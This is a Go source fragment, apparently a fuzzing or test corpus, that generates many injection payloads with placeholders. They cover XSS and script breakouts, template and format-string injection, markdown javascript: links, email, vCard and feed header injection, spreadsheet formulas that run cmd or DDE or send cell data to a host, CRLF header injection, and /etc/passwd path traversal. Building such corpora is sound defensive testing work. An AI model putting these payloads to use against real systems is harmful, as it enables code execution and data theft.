		`">`, `'>`, "`>", `>`, `"/>`, `'/>`, `" `, `' `, `</script>`, `</SCRIPT >`, `</script/x>`, `</style>`, `</title>`, `</textarea>`, `</noscript>`, `</template>`, `</iframe>`, `</xmp>`, `</select>`, `</svg>`, `</math>`, `</a></p></div></div>`, `-->`, `--!>`, `]]>`, `?>`, `%>`, `*/`, `';`, `";`, `'};`, `"}];`, `\";`, `\';`, `\`, `"+`, `'-`, "`${", "\u2028", "\u2029", "\n", "\r\n\r\n", "\x00", `&quot;>`, `&#34;>`, `&apos;>`, `%22%3E`, `\x22>`, `\u0022>`, `}}`, `))`, `;)`,
	}
	for i, end := range ends {
		starts := []string{`<script>§</script>`, `<img src=x onerror=§>`, `<svg/onload=§>`, `onmouseover=§ autofocus onfocus=§ x=`, `§//`, `-§-`}
		all = append(all, end+starts[0], end+starts[1+i%2], end+starts[3+i%3])
	}
	return append(all, `'"--></style></script></title></textarea></noscript><img src=x onerror=§>`, `jaVasCript:/*-/*`+"`"+`/*\`+"`"+`/*'/*"/**/(/* */oNcliCk=§ )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=§//>\x3e`, `<p>" onmouseover="§</p>`, `<h2>$&$1$`+"`"+`</h2><img src=x onerror=§>`, "$'$`$&<img src=x onerror=§>", `$$<script>§</script>`)
}

var inJSON = []string{
	`{"@context":"https://schema.org","name":"</script><script>§</script>"}`, `"},"x":"</script><svg onload=§>`, `<!--<script>"</script><script>§</script>`, `<!-- <script> §`, "\u2028</script><script>§</script>", "\u2029;§;//", `\u003c/script\u003e\u003cscript\u003e§`, `\"};§;//`, `\\";§;//`, `';§;'`, `"-§-"`, `{{"a":§}}`, `]}');§;//`, `</ScRiPt ><sCrIpT>§</sCrIpT>`, "</script\t><script>§</script>", "</script\f><script>§</script>",
	`<\/script><script>§</script>`, `<!--</script><script>§</script>-->`, `]]></script><script>§</script>`, `/*</script><script>*/§`, `"@type":"<script>§</script>"`, `callback(§)`, `)]}',§`, `while(1);§`, `{"$ref":"https://¤/schema"}`, `{"toString":"§","valueOf":"§"}`, `</script foo="bar"><script>§</script>`, `</scrıpt><script>§</script>`, `<script/<!--§`, `<!--><script>§</script>`,
}

var templates = []string{
	`{{constructor.constructor('§')()}}`, "${§}", "`${§}`", `<%= § %>`, `<% § %>`, `#{§}`, `#set($x=§)`, `{%raw%}§{%endraw%}`, `{{=§}}`, `{{{§}}}`, `{{.}}{{template "x"}}§`, `{{printf "%s" §}}`, `{{"<script>"|safeHTML}}§`, `[[${§}]]`, `[(§)]`, `*{§}`, `@{§}`, `~{§}`, `${{§}}`, `$(§)`, "`§`", `;§;`, `|§`, `{{$on.constructor('§')()}}`, `{{[].pop.constructor('§')()}}`, `<div ng-app>{{§}}</div>`, `<p v-html="'<img src=x onerror=§>'">`, `<p x-data x-init="§">`, `<p hx-on:load="§" hx-get="https://¤/">`, `<p data-bind="html:§">`,
	`<p data-edit="§" data-entry="§">`, `%s%s%s%s §`, `%n%n%n §`, `%!s(MISSING) §`, `%d%v%+v%#v%T §`, `%[1]s%[99]d §`, `%*d §`, `%999999999d §`, `{0}{1}{2} §`, `{name} {count} §`, `{{name}} §`, `{count, plural, one {§} other {§}}`, `<0>§</0>`, `$t(§)`, `%{§}`, `%(§)s`, `%5B§%5D`, `%00§`, `%c §`, `%x%p §`, `$1$2$& §`, `\0\1\g<0> §`, `%E2%80%AE §`, `@@version §`, `{% include "/etc/passwd" %} §`, `<!--#exec cmd="§" -->`, `<!--#include virtual="/§" -->`, `<?= § ?>`, `<esi:include src="https://¤/esi"/>`, `<jsp:include page="§"/>`,
}

var markdown = []string{
	`[c](javascript:§)`, `[c](<javascript:§>)`, "[c](java\tscript:§)", `![c](javascript:§)`, `![c](https://¤/md.png)`, `![x](x"onerror="§)`, `![x"onerror=§ ](x)`, `[c]: javascript:§`, `<javascript:§>`, `<https://¤/><script>§</script>`, `[c](data:text/html,<script>§</script>)`, `[c](vbscript:§)`, "```html\n<script>§</script>\n```", "`<script>§</script>`", `**<img src=x onerror=§>**`, `# <svg onload=§>`, `> <script>§</script>`, `- <img src=x onerror=§>`, `| <script>§</script> |`, `<!-- [c](javascript:§) -->`, `[a]("onclick="§)`, `~~<script>§</script>~~`, `[^1]: <script>§</script>`, `[c](https://x.example "<script>§</script>")`, `http://x.example/"onmouseover="§ `, `www.¤/"onclick="§`, `javascript:§//http://x.example`, `a@b.example"onclick="§`, `[[javascript:§|c]]`, `{{< raw >}}<script>§</script>{{< /raw >}}`,
}

var comments = []string{
	`<!--><img src=x onerror=§>-->`, `<!---><img src=x onerror=§>-->`, `<!-- --!><img src=x onerror=§>`, `<!--<img title="--><img src=x onerror=§>">`, `<!--<!--><script>§</script>-->`, `<!-- - - > --><script>§</script>`, `<!doctype html><img src=x onerror=§>`, `<!DOCTYPE x [<!ENTITY y "§">]><p>&y;`, `<?xml version="1.0"?><img src=x onerror=§>`, `<?php ><img src=x onerror=§>?>`, `</p/><img src=x onerror=§>`, `</ ><img src=x onerror=§>`, `</!><img src=x onerror=§>`, `<%<!--'%><img src=x onerror=§ -->`, `<!ENTITY x "y"><img src=x onerror=§>`, `<![CDATA[<img src=x onerror=§>]]>`, `<![if IE]><script>§</script><![endif]>`, `<!--[if gte IE 4]><script>§</script><![endif]-->`, `<!><script>§</script>`, `<!-x-><img src=x onerror=§>`, `<p title="<!--"><img src=x onerror=§>`, `<!--\n--\n><script>§</script>`, `<!-- <p title="--><script>§</script>`, `<?><script>§</script>`, `§<!-`, `§<!`, `§</`, `§<`, `§<a`, `§<a `, `§<a href`, `<a href="§`, `<img src=x onerror="§`, `§<p/`, `§&`, `§&#`, `§&#x`, `§&lt`,
}

func deep() []string {
	return []string{
		`<p>` + strings.Repeat("<b>", 600) + `<script>§</script>`, strings.Repeat("<blockquote>", 512) + `<img src=x onerror=§>`, strings.Repeat("<em>", 520) + `<svg><style><img title="</style><img src=x onerror=§>">`, strings.Repeat("<svg>", 256) + `<script>§</script>`, strings.Repeat("<math><mtext>", 128) + `<img src=x onerror=§>`,
		strings.Repeat("<table><tr><td>", 128) + `<img src=x onerror=§>`, strings.Repeat("<ul><li>", 300) + `<svg/onload=§>`, strings.Repeat("<a href=x>", 200) + `<a href=javascript:§>c`, strings.Repeat("<form>", 100) + `<button formaction=javascript:§>c`, strings.Repeat("<", 1000) + `script>§</script>`, strings.Repeat("<!--", 500) + `--><script>§</script>`, strings.Repeat("&lt;", 500) + `<script>§</script>`, strings.Repeat("\u0301", 500) + `<script>§</script>`, strings.Repeat("\"'", 500) + `><script>§</script>`, `<p ` + strings.Repeat("x=y ", 500) + `onclick=§>c`, strings.Repeat("x", 4000) + `<script>§</script>`,
	}
}

var mailed = []string{
	"a@b.example\r\nBcc: v@¤", "a@b.example\nContent-Type: text/html\n\n<script>§</script>", "a@b.example%0d%0aBcc:v@¤", "=?utf-8?q?=3Cscript=3E?=§=?utf-8?q?=3C/script=3E?=", "=?utf-8?b?PHNjcmlwdD4=?=§", `"<script>§</script>"@b.example`, `<script>§</script>@b.example`, `"a\"><img src=x onerror=§>"@b.example`, "a@b.example>\r\nRCPT TO:<v@¤>", ".\r\nMAIL FROM:<v@¤>\r\nDATA\r\n<script>§</script>", "\r\n.\r\nQUIT §", "Subject: §\r\n\r\n<script>§</script>", "--boundary\r\nContent-Type: text/html\r\n\r\n<script>§</script>\r\n--boundary--", "x\r\n\r\n--\r\nContent-Disposition: attachment; filename=\"x.html\"\r\n\r\n<script>§</script>", "From: §\u2028Bcc: v@¤", "a@b.example,v@¤", "a@b.example;v@¤", "undisclosed:v@¤;", "(§)a@b.example", "a@[¤]", "Name <v@¤>", "\u202ea@b.example §", "> From our site:\n> https://¤/", "begin 644 x.html\n<script>§</script>\nend",
	"----\nSign in again: https://¤/admin", "https://¤/reset#§",
}

var cards = []string{
	"x\r\nEND:VCARD\r\nBEGIN:VCARD\r\nURL:javascript:§", "x\nURL:https://¤/", "x;CHARSET=UTF-8:<script>§</script>", "x\\nURL:javascript:§", "x\\;TEL:§", "TEL;VALUE=uri:javascript:§", "PHOTO;VALUE=URI:https://¤/p.jpg", "x\r\n PHOTO:https://¤/folded", "NOTE:§\r\nX-ABURL:https://¤/", "item1.URL:javascript:§", "x\u2028URL:https://¤/", "x\u0085URL:https://¤/", "x\vURL:https://¤/", "x\x0cURL:https://¤/", "BEGIN:VCALENDAR\nATTACH:https://¤/\nEND:VCALENDAR", "WIFI:T:nopass;S:§;;", "MATMSG:TO:v@¤;SUB:§;;", "SMSTO:+91:§", "MECARD:N:§;URL:https://¤/;;", "BITCOIN:§?label=<script>",
	"upi://pay?pa=v@¤&am=1", "otpauth://totp/§?secret=A&issuer=¤", "User-agent: *\nDisallow: §", "Sitemap: https://¤/sitemap.xml", "]]></title><link href=\"https://¤/\"/>", "</url><url><loc>https://¤/</loc></url>", "</entry><entry><content type=\"html\">&lt;script&gt;§&lt;/script&gt;</content></entry>", "<content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><script>§</script></div></content>", "<x xmlns=\"http://www.w3.org/1999/xhtml\"><script>§</script></x>", "<xsl:value-of select=\"document('https://¤/')\"/>", "<!ENTITY % x SYSTEM \"https://¤/x\"> %x;", "\",\"start_url\":\"https://¤/", "\"}],\"icons\":[{\"src\":\"https://¤/i.png\"}],\"x\":[{\"y\":\"",
}

// cells returns texts that spreadsheets interpret as formulas.
func cells() (all []string) {
	for _, begin := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", `"=`, ";=", ",=", "|=", "\u200b=", "\ufeff="} {
		all = append(all, begin+`HYPERLINK("https://¤/","§")`, begin+`cmd|'/C §'!A0`)
	}
	return append(all, `=WEBSERVICE("https://¤/"&A1)`, `=IMPORTXML("https://¤/","//a")`, `=IMAGE("https://¤/i.png")`, `x";=HYPERLINK("https://¤/s")`, "x\"\r\n=HYPERLINK(\"https://¤/r\")", `=DDE("cmd";"/C §";"1")`, `{=HYPERLINK("https://¤/a")}`, `%0A=HYPERLINK("https://¤/p")`, `sep=;=HYPERLINK("https://¤/sep")`)
}

// headers returns payloads that break out of a line of HTTP, of a log or of an event stream.
func headers() (all []string) {
	for i, line := range []string{"\r\n", "\n", "\r", "%0d%0a", "%0a", "%0d", `\r\n`, "\u560d\u560a", "%E5%98%8D%E5%98%8A", "\u2028", "\x0b", "\x1b[2J\n", "\u0085", "%00%0a"} {
		all = append(all, "x"+line+"Set-Cookie: x=§", "x"+line+line+"<script>§</script>", []string{"x" + line + "Location: https://¤/", "x" + line + "data: {\"x\":\"§\"}", "x" + line + "Content-Type: text/html" + line + line + "§"}[i%3])
	}
	return append(all, "https://¤/?\r\nX: §", "../../../../etc/passwd#§", "..%2f..%2f§.html", `..\..\§.html`, "CON.html?§", "/admin/../§", "/.well-known/../§", "x.html;§.jpg", "x.svg\x00.jpg§", "en/../§", "gu<script>§</script>", "q\u0000§")
}
